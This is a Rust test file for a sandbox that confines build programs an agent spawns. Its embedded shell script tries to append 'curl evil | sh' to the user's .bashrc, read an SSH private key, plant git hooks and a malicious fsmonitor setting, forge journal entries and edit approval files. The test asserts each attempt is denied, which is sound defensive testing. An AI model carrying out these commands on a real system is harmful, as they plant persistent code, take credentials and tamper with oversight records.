//! Spawned programs run confined (Linux: Landlock; macOS: Seatbelt, the same table as a
//! `sandbox-exec` profile; run on macOS by .github/workflows/confinement.yml): an hvigorw stand-in that runs the agent's code
//! (as `hvigorfile.ts` would) tries to reach the user's shell profile, ssh key, rein's home,
//! the journal, git hooks, another project and a workspace link to the home; everything fails
//! but the build's own writes.
//! The same program with `[spawn] confine = "off"` reaches them all, so the test can fail.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use rein::harmony::confinement::{profile, SpawnPlaces};
use rein::harmony::programs::Program;
use rein::kernel::process::confine::{level, Level};
use serde_json::{json, Value};

use crate::common::{run_json, toml_path, Workspace};

const BASHRC: &str = "# the user's own\n";
const SSH_KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- secret-material\n";

/// Each attempt prints `<name> ok` or `<name> denied`.
const SCRIPT: &str = r#"#!/bin/sh
try() { name="$1"; shift; if "$@" 2>/dev/null; then echo "$name ok"; else echo "$name denied"; fi; }
try build_output sh -c 'mkdir -p entry/build/default && echo hap > entry/build/default/app.hap'
try build_dir sh -c 'mkdir -p build && echo x > build/cache.txt'
try hvigor_cache sh -c 'mkdir -p "$HVIGOR_USER_HOME" && echo cache > "$HVIGOR_USER_HOME/cache.txt"'
try shared_hvigor_home sh -c 'mkdir -p "$HOME/.hvigor" && echo plugin > "$HOME/.hvigor/evil.js"'
try temp sh -c 'echo t > "$TMPDIR/hvigor-temp.txt"'
try bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try ssh_key sh -c 'cat "$HOME/.ssh/id_ed25519" > /dev/null'
try ssh_dir sh -c 'ls "$HOME/.ssh" > /dev/null'
try rein_home sh -c "echo '[[allow]]' >> '@HOME@/approvals.toml'"
try journal sh -c 'echo forged > .rein/journal/forged.jsonl'
try git_hook sh -c 'echo evil > .git/hooks/pre-commit'
try workspace_root sh -c 'echo x > new-top-level-file'
try link_to_home sh -c 'echo "curl evil | sh" >> home-link/.bashrc'
try other_project sh -c "echo x > '@OTHER@/notes.txt'"
try other_project_read sh -c "cat '@OTHER@/secret.txt' > /dev/null"
try nested_git_hook sh -c 'echo evil > entry/.git/hooks/post-checkout'
try nested_git_config sh -c 'echo "[core] fsmonitor = evil" >> entry/.git/config'
try nested_git_file sh -c 'echo "gitdir: /evil" > lib/sub/.git'
try rein_toml sh -c 'echo "[overrides]" >> rein.toml'
try rein_lock sh -c 'echo x > rein.lock'
try nested_source sh -c 'echo "// more" >> entry/src/main/ets/Index.ets'
try nested_module_build sh -c 'mkdir -p entry/build/default && echo hap > entry/build/default/entry.hap'
try tmp_shared sh -c 'echo t > /tmp/rein-confinement-$$.txt'
"#;

/// The outcome each attempt must have when confined.
const CONFINED: [(&str, &str); 23] = [
    ("build_output", "ok"),
    ("build_dir", "ok"),
    ("hvigor_cache", "ok"),
    ("shared_hvigor_home", "denied"),
    ("temp", "ok"),
    ("bashrc", "denied"),
    ("ssh_key", "denied"),
    ("ssh_dir", "denied"),
    ("rein_home", "denied"),
    ("journal", "denied"),
    ("git_hook", "denied"),
    ("workspace_root", "denied"),
    ("link_to_home", "denied"),
    ("other_project", "denied"),
    ("other_project_read", "denied"),
    ("nested_git_hook", "denied"),
    ("nested_git_config", "denied"),
    ("nested_git_file", "denied"),
    ("rein_toml", "denied"),
    ("rein_lock", "denied"),
    ("nested_source", "ok"),
    ("nested_module_build", "ok"),
    ("tmp_shared", "denied"),
];

struct Setup {
    ws: Workspace,
    user_home: PathBuf,
    other: PathBuf,
}

/// A folder for the test's tree (workspace, fake user home, other project) that no confined
/// program may write through a grant of its own: the temp folders are granted whole (or,
/// once each spawn has a private one, that one), so a tree under `/tmp` — a clone in `/tmp`,
/// whose target folder is there too — would prove nothing. Asks the profile itself what it
/// grants, so the test holds wherever the clone is and whatever temp folders programs get.
fn outside_every_grant() -> PathBuf {
    let nowhere = Path::new("/nonexistent-rein-test");
    let env = vec![("HOME".to_string(), nowhere.join("user").display().to_string())];
    let places = SpawnPlaces {
        workspace: &nowhere.join("ws"),
        rein_home: &nowhere.join("home"),
        program: &nowhere.join("bin/hvigorw"),
        jar: None,
        env: &env,
        outside_args: Vec::new(),
        approved_writes: None,
        args: &[],
        extra_ports: &[],
        writable: &[],
        hdc: &[],
        protected: &[],
        hvigor_reads_signing_material: false,
    };
    let profile = profile(&Program::Hvigorw, &places, &[]);
    let granted = |dir: &Path| {
        let real = std::fs::canonicalize(dir).unwrap_or_else(|_| dir.to_path_buf());
        profile
            .write
            .iter()
            .chain(&profile.write_no_link)
            .any(|grant| real.starts_with(grant) || dir.starts_with(grant))
    };
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let candidates = [Some(PathBuf::from(env!("CARGO_TARGET_TMPDIR"))), home.map(|h| h.join(".cache/rein-tests"))];
    candidates.into_iter().flatten().find(|dir| !granted(dir)).unwrap_or_else(|| {
        panic!("no folder outside what confined programs may write ({:?}): set HOME outside them", profile.write)
    })
}

/// A workspace no confined program may write by a temp grant (see [`outside_every_grant`]), a
/// fake user home with a shell profile and an ssh key, another project next to it, and a
/// hvigorw that is `SCRIPT`.
fn setup(confine: &str) -> Setup {
    let ws = Workspace::new_in(&outside_every_grant());
    let user_home = ws.root.join("user");
    std::fs::create_dir_all(user_home.join(".ssh")).unwrap();
    std::fs::write(user_home.join(".bashrc"), BASHRC).unwrap();
    std::fs::write(user_home.join(".ssh/id_ed25519"), SSH_KEY).unwrap();
    let other = ws.root.join("other-project");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join("secret.txt"), "theirs\n").unwrap();
    std::fs::create_dir_all(ws.root.join("tmp")).unwrap();
    ws.file("hvigorfile.ts", "export default {}\n");
    ws.file("entry/src/main/ets/Index.ets", "// page\n");
    ws.file(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    // A module that is a repository of its own, a submodule (`.git` as a file), the policy files.
    ws.file("entry/hvigorfile.ts", "export default {}\n");
    ws.file("entry/.git/config", "[core]\n");
    ws.file("entry/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    ws.file("lib/sub/.git", "gitdir: ../../.git/modules/sub\n");
    ws.file("rein.toml", "");
    ws.file("rein.lock", "");
    std::os::unix::fs::symlink(&user_home, ws.path("home-link")).unwrap();
    ws.file("tools/build.lua", "return { name = 'build', description = 'builds', run = function() return rein.proc.run('hvigorw', { 'assembleHap' }) end }");
    let hvigorw = ws.root.join("clt/bin/hvigorw");
    std::fs::create_dir_all(hvigorw.parent().unwrap()).unwrap();
    let script =
        SCRIPT.replace("@HOME@", &ws.home.display().to_string()).replace("@OTHER@", &other.display().to_string());
    std::fs::write(&hvigorw, script).unwrap();
    std::fs::set_permissions(&hvigorw, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        ws.home.join("config.toml"),
        format!("[toolchain]\nhvigorw = {}\n\n[spawn]\nconfine = \"{confine}\"\n", toml_path(&hvigorw)),
    )
    .unwrap();
    Setup { ws, user_home, other }
}

impl Setup {
    fn command(&self, args: &[&str]) -> std::process::Command {
        let mut cmd = self.ws.command(args);
        cmd.env("HOME", &self.user_home).env("TMPDIR", self.ws.root.join("tmp"));
        cmd
    }

    /// Runs the build (after a first write, so the journal exists); each attempt's outcome as
    /// the program printed it.
    fn build(&self) -> Vec<(String, String)> {
        let payload = json!({"path": "notes.md", "content": "first\n"}).to_string();
        let (status, out) = run_json(&mut self.command(&["call", "write_file", &payload]), None);
        assert_eq!(status, 0, "{out}");
        assert!(self.ws.path(".rein/journal").is_dir(), "the journal exists before the build");
        let (status, out) = run_json(&mut self.command(&["call", "build"]), None);
        assert_eq!(status, 0, "{out}");
        let stdout = out["result"]["stdout"].as_str().expect("the program's stdout");
        stdout.lines().filter_map(|l| l.split_once(' ')).map(|(a, b)| (a.to_string(), b.to_string())).collect()
    }

    fn spawn_entries(&self) -> Vec<Value> {
        crate::common::journal_entries(&self.ws.ws, Some("spawn"))
    }
}

/// The reason to skip, where this system cannot confine.
fn no_landlock() -> Option<String> {
    match level() {
        Level::Landlock { .. } | Level::Seatbelt => None,
        Level::RestrictedToken => Some("this module is Unix's; Windows runs tests/confined_writes.rs".to_string()),
        Level::Unavailable(why) => Some(why.clone()),
    }
}

#[test]
#[cfg_attr(
    not(any(target_os = "linux", target_os = "macos")),
    ignore = "rein confines programs on Linux (Landlock) and macOS (Seatbelt) only"
)]
fn a_confined_build_writes_its_own_outputs_and_nothing_of_the_users() {
    if let Some(why) = no_landlock() {
        crate::common::real_tools::unavailable(
            "a_confined_build_writes_its_own_outputs_and_nothing_of_the_users",
            &format!("this system cannot confine programs: {why}"),
        );
        return;
    }
    let setup = setup("auto");
    let outcomes = setup.build();
    let expected: Vec<(String, String)> = CONFINED.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
    assert_eq!(outcomes, expected);
    assert_eq!(std::fs::read_to_string(setup.user_home.join(".bashrc")).unwrap(), BASHRC);
    assert_eq!(std::fs::read(setup.ws.path("entry/build/default/app.hap")).unwrap(), b"hap\n");
    assert!(!setup.ws.path(".rein/journal/forged.jsonl").exists());
    assert!(!setup.ws.path(".git/hooks/pre-commit").exists());
    assert!(!setup.ws.path("entry/.git/hooks/post-checkout").exists());
    assert_eq!(std::fs::read_to_string(setup.ws.path("entry/.git/config")).unwrap(), "[core]\n");
    assert_eq!(std::fs::read_to_string(setup.ws.path("rein.toml")).unwrap(), "");
    assert!(!setup.other.join("notes.txt").exists());
    assert!(!setup.ws.home.join("approvals.toml").exists());
    let spawns = setup.spawn_entries();
    let confinement = spawns[0]["confinement"].as_str().expect("the journal says what the spawn ran under");
    let expected = if cfg!(target_os = "macos") { "seatbelt" } else { "landlock-abi" };
    assert!(confinement.starts_with(expected), "{confinement}");
}

/// `confine = "require"`: where this system confines every part, the build runs confined;
/// where it cannot, every spawn is refused and nothing of the person's is touched.
#[test]
fn require_confines_or_refuses_and_never_runs_unconfined() {
    use rein::kernel::process::confine::{decide, ConfineMode, Plan};
    let setup = setup("require");
    match decide(ConfineMode::Require, level()) {
        Plan::Refuse(why) => {
            let payload = json!({"path": "notes.md", "content": "first\n"}).to_string();
            let (status, out) = run_json(&mut setup.command(&["call", "write_file", &payload]), None);
            assert_eq!(status, 0, "{out}");
            let (status, out) = run_json(&mut setup.command(&["call", "build"]), None);
            assert_ne!(status, 0, "{out}");
            assert_eq!(out["error"]["code"], json!("PROGRAM_NOT_ALLOWED"), "{out}");
            assert!(out.to_string().contains(&why), "the refusal says why: {out}");
            assert_eq!(std::fs::read_to_string(setup.user_home.join(".bashrc")).unwrap(), BASHRC);
            assert!(setup.spawn_entries()[0]["confinement"].as_str().unwrap().starts_with("none: "));
        }
        Plan::Unconfined(why) => panic!("require never runs unconfined: {why}"),
        _ => {
            let expected: Vec<(String, String)> =
                CONFINED.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
            assert_eq!(setup.build(), expected);
            assert_eq!(std::fs::read_to_string(setup.user_home.join(".bashrc")).unwrap(), BASHRC);
        }
    }
}

#[test]
fn the_same_build_unconfined_reaches_everything_so_the_test_can_fail() {
    let setup = setup("off");
    let outcomes = setup.build();
    assert!(outcomes.iter().all(|(_, outcome)| outcome == "ok"), "{outcomes:?}");
    assert!(std::fs::read_to_string(setup.user_home.join(".bashrc")).unwrap().contains("curl evil"));
    let spawns = setup.spawn_entries();
    assert_eq!(spawns[0]["confinement"], json!("none: off in home config.toml ([spawn] confine = \"off\")"));
}

#[test]
fn doctor_reports_the_confinement_level() {
    let setup = setup("auto");
    let (status, out) = run_json(&mut setup.command(&["doctor"]), None);
    // Only hvigorw is configured here, so doctor also says what else is missing (exit 1).
    let report = if status == 0 { &out["result"] } else { &out["error"]["details"] };
    let shown = report["confinement"].as_str().unwrap_or_else(|| panic!("doctor reports confinement: {out}"));
    match no_landlock() {
        None if cfg!(target_os = "macos") => {
            assert!(shown.starts_with("seatbelt (/usr/bin/sandbox-exec): enforced"), "{shown}")
        }
        None => {
            assert!(shown.starts_with("landlock ABI ") && shown.contains(": enforced; "), "{shown}");
            assert!(shown.ends_with("; UDP: only hvigorw and ohpm (name lookups; to any port until Landlock ABI 10 confines UDP), no other program"), "{shown}");
        }
        Some(why) => assert!(shown.starts_with(&format!("unavailable: {why}; programs run unconfined")), "{shown}"),
    }
}
